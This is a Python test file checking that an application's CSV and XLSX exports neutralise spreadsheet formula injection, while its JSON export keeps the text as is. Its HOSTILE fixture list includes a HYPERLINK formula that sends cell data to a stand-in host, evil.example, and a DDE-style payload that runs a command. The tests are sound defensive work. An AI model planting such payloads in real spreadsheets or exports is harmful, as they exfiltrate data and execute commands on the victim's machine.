"""Exports open safely in a spreadsheet: no cell that a spreadsheet would run as a formula (issue 11, item 7)."""

from __future__ import annotations

import csv

import pytest
from openpyxl import load_workbook

from app.export import figure_rows, write
from core.schemas import Citation, DocRecord, DocType, Figure

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", "=1+1"]


def _rows() -> list[dict]:
    record = DocRecord(doc_id="d" * 16, source="=evil().txt", path="/x", unit="@某单位", year=2024,
                       doc_type=DocType.budget)
    figures = []
    for i, text in enumerate(HOSTILE):
        c = Citation(doc_id=record.doc_id, source=record.source, char_start=0, char_end=len(text), quote=text)
        figures.append(Figure(key=f"k{i}", value="-3.10", unit="万元", citation=c, label=text, table=text))
    return figure_rows([(record, figures)])


def _neutral(cell) -> bool:
    s = "" if cell is None else str(cell)
    return not s or s[0] not in "=+-@\t\r" or s.lstrip("-").replace(".", "", 1).isdigit()


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_formula_like_cells_are_neutralised_numbers_are_not(tmp_path, fmt):
    path = write(_rows(), fmt, tmp_path / f"f.{fmt}")
    if fmt == "csv":
        rows = list(csv.DictReader(path.open(encoding="utf-8-sig", newline="")))
        cells = [v for r in rows for v in r.values()]
        values = [r["value"] for r in rows]
        labels = [r["label"] for r in rows]
    else:
        ws = load_workbook(path).active
        assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)  # no formula cell at all
        header = [c.value for c in ws[1]]
        rows = [dict(zip(header, [c.value for c in r], strict=True)) for r in ws.iter_rows(min_row=2)]
        cells = [v for r in rows for v in r.values()]
        values = [r["value"] for r in rows]
        labels = [r["label"] for r in rows]
    assert all(_neutral(c) for c in cells), [c for c in cells if not _neutral(c)]
    assert values == ["-3.10"] * len(HOSTILE)  # a negative number stays a number as printed
    assert labels[0] == "'" + HOSTILE[0]  # the text is kept, behind a quote
    assert rows[0]["source"] == "'=evil().txt" and rows[0]["unit_name"] == "'@某单位"


def test_json_export_keeps_the_text_as_it_is(tmp_path):
    import json

    path = write(_rows(), "json", tmp_path / "f.json")
    assert [r["label"] for r in json.loads(path.read_text(encoding="utf-8"))] == HOSTILE
